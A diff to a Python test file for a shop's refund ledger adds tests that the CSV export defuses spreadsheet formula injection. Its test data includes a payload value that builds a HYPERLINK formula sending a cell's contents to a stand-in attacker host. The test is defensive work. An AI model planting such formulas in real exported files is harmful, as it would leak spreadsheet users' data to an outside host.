@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import sqlite3
 from pathlib import Path
 
@@ -101,6 +102,25 @@ def test_the_ledger_as_csv_has_all_columns_and_no_formula(call: Call, shop: Path
     assert (found[-1]["to"], found[-1]["amount"], found[-1]["currency"]) == ("done", "59.90", "CNY")
     assert (found[-1]["reference"], found[-1]["total_done"]) == ("'=1+1", "59.90")
     assert {row["order"] for row in found} == {"A1", "A2", "A3"}
+
+
+@pytest.mark.parametrize("start", [*"=+-@\t\r\n＝＋－＠"], ids=ascii)
+def test_no_words_in_the_csv_are_a_formula(call: Call, shop: Path, start: str) -> None:
+    Here(str(shop)).with_database(several)
+    evil = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
+    with sqlite3.connect(shop / "data" / "shouhou.db") as database:
+        database.execute("UPDATE ledger SET who = ?, reference = ?, why = ?", (evil, evil, evil))
+        database.execute("UPDATE refunds SET order_number = ?", (evil,))
+    table = list(csv.reader(io.StringIO(call("ledger", "--csv").stdout, newline="")))
+    assert sum(cell == f"'{evil}" for row in table for cell in row) == 6 * 4
+    assert not any(cell.startswith(start) for row in table for cell in row)
+
+
+def test_no_other_part_of_the_program_writes_csv() -> None:
+    """Whoever writes another one makes its words harmless too, and adds it here with its test."""
+    sources = (Path(__file__).parents[2] / "bot").rglob("*.py")
+    writers = {path.name for path in sources if re.search(r"csv\.(Dict)?[Ww]riter", path.read_text("utf-8"))}
+    assert writers == {"ledger.py"}
 
 
 def test_a_ledger_somebody_changed_does_not_add_up(call: Call, shop: Path) -> None:
